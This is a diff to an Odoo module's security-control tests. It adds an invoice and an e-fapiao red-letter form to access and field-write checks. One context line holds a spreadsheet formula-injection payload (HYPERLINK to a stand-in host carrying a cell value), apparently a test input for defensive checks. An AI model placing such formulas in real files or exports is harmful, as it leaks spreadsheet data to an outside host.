@@ -45,7 +45,8 @@ REFUSED = UserError
 FORMULA = '=HYPERLINK("http://x/?"&B9,"Open")'
 # models whose records may be deleted in Odoo's own flows (a draft quotation;
 # a company, by the settings administrators only)
-UNLINK_ALLOWED = {"sale.order", "res.company"}
+# Odoo's own rules decide who deletes these (a draft invoice, a company)
+UNLINK_ALLOWED = {"sale.order", "res.company", "account.move"}
 
 
 class ControlsFixture:
@@ -194,7 +195,26 @@ class ControlsFixture:
                 "snapshot": "{}",
             }
         )
+        # e-fapiao (issue #20): an invoice and a red-letter form of it
+        cls.fapiao_invoice = env["account.move"].create(
+            {
+                "move_type": "out_invoice",
+                "partner_id": cls.customer.id,
+                "invoice_line_ids": [
+                    Command.create({"name": "Fapiao line", "price_unit": 100.0})
+                ],
+            }
+        )
+        cls.red_form = env["sales.closing.fapiao.red"].create(
+            {
+                "company_id": cls.company.id,
+                "move_id": cls.fapiao_invoice.id,
+                "reason": "01",
+            }
+        )
         cls.records = {
+            "account.move": cls.fapiao_invoice,
+            "sales.closing.fapiao.red": cls.red_form,
             "sale.order": cls.order,
             "sales.closing.order.violation": cls.violation,
             "sales.closing.check.line": cls.line,
@@ -207,6 +227,14 @@ class ControlsFixture:
         }
         # the least a create needs besides the attacked field
         cls.create_values = {
+            "account.move": {
+                "move_type": "out_invoice",
+                "partner_id": cls.customer.id,
+            },
+            "sales.closing.fapiao.red": {
+                "company_id": cls.company.id,
+                "reason": "01",
+            },
             "sale.order": {"partner_id": cls.customer.id},
             "sales.closing.order.violation": {
                 "order_id": cls.order.id,
@@ -317,7 +345,7 @@ class TestSecurityControls(ControlsFixture, TransactionCase):
             name
             for name in controlled
             if self.env[name]._original_module == "sales_closing"
-            or name in ("sale.order", "res.company")
+            or name in ("sale.order", "res.company", "account.move")
         }
         self.assertEqual(ours - set(self.records), set())
 
@@ -736,6 +764,12 @@ class TestSecurityControlsJsonRpc(ControlsFixture, HttpCase):
             (self.manager, self.statement.line_ids, {"debit": 1.0}),
             (self.manager, self.package, {"verify_state": "ok"}),
             (self.sysadmin, self.company, {"sales_closing_package_head_hash": "0"}),
+            (
+                self.accountant,
+                self.fapiao_invoice,
+                {"sales_closing_fapiao_state": "issued"},
+            ),
+            (self.accountant, self.red_form, {"red_number": "9" * 20}),
         ]
         self.assertEqual({case[1]._name for case in cases}, set(self.records))
         for user, record, vals in cases:
